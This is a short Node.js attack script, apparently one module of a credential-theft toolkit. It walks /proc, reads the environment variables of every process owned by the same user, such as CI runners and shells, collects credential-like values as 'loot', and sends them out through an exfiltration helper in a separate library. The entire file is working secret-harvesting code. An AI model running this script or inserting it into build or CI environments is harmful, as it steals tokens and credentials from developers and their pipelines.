'use strict';
// Read the environment of every other process of the same user (a CI runner's, a
// shell's) through /proc/<pid>/environ.
const fs = require('fs');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = '';
  for (const pid of fs.readdirSync('/proc').filter((e) => /^\d+$/.test(e))) {
    try {
      const env = fs.readFileSync(`/proc/${pid}/environ`, 'utf8').replace(/\0/g, '\n');
      for (const c of lib.found(env)) loot += `${pid} ${c}\n`;
    } catch {
      /* not ours or gone */
    }
  }
  if (loot) await lib.exfil(loot);
});
